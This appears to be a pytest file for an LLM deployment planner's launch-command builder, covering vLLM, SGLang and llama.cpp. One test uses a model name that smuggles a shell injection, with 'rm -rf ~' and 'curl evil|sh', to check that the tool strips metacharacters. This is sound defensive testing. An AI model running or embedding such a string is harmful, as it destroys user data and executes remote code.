"""How to run a plan: the launch command (launch.py)."""

from __future__ import annotations

from app.engine import Workload, estimate, model_spec_from_hf_config
from app.engine.launch import launch_command

from .shapes import FOUR_4090, LLAMA_3_8B, LLAMA_8B


def test_launch_command_is_shell_safe_whatever_the_model_name():
    hostile = model_spec_from_hf_config(
        LLAMA_8B,
        name="x; rm -rf ~ $(curl evil|sh) `id` 'q'",
    )
    e = estimate(FOUR_4090, hostile, Workload(precision="bf16"))
    command = e.plan.launch_command
    assert command.startswith("vllm serve x-rm-")
    assert not any(c in command for c in ";$`'\"|()~&<>")


def test_llama_cpp_launch_names_a_gguf_type_that_exists_for_a_format_gguf_lacks():
    # GGUF has no FP8 type: the file named must be the closest one the finding names (Q8_0).
    e = estimate(FOUR_4090, LLAMA_3_8B, Workload(precision="fp8", runtime="llama.cpp"))
    assert "-Q8_0.gguf" in e.plan.launch_command
    assert any("closest GGUF format is Q8_0" in f.message for f in e.findings)


def test_llama_cpp_launch_keeps_a_gguf_format_and_names_bf16_as_gguf_does():
    gguf = estimate(FOUR_4090, LLAMA_3_8B, Workload(precision="q4_k_m", runtime="llama.cpp"))
    bf16 = estimate(FOUR_4090, LLAMA_3_8B, Workload(precision="bf16", runtime="llama.cpp"))
    assert "-Q4_K_M.gguf" in gguf.plan.launch_command
    assert "-BF16.gguf" in bf16.plan.launch_command


def _pipeline(runtime: str, pp: int) -> str:
    return launch_command(
        runtime=runtime, model_ref="m", build=FOUR_4090, workload=Workload(precision="bf16"),
        tp=1, pp=pp, replicas=1, expert_parallel=False, memory_utilization=0.9,
        kv_precision="bf16", layer_partition=(20, 12)[:pp],
    )  # fmt: skip


def test_a_stated_layer_partition_reaches_vllm_as_its_environment_variable_only():
    # vLLM splits layers evenly over pipeline stages unless VLLM_PP_LAYER_PARTITION says
    # otherwise; SGLang and a single stage take no such variable.
    vllm = _pipeline("vllm", 2)
    assert vllm.startswith("VLLM_PP_LAYER_PARTITION=20,12 vllm serve m --tensor-parallel-size 1")
    assert "--pipeline-parallel-size 2" in vllm
    assert _pipeline("vllm", 1).startswith("vllm serve m --tensor-parallel-size 1")
    sglang = _pipeline("sglang", 2)
    assert "VLLM_PP_LAYER_PARTITION" not in sglang and "--tp 1 --pp-size 2" in sglang
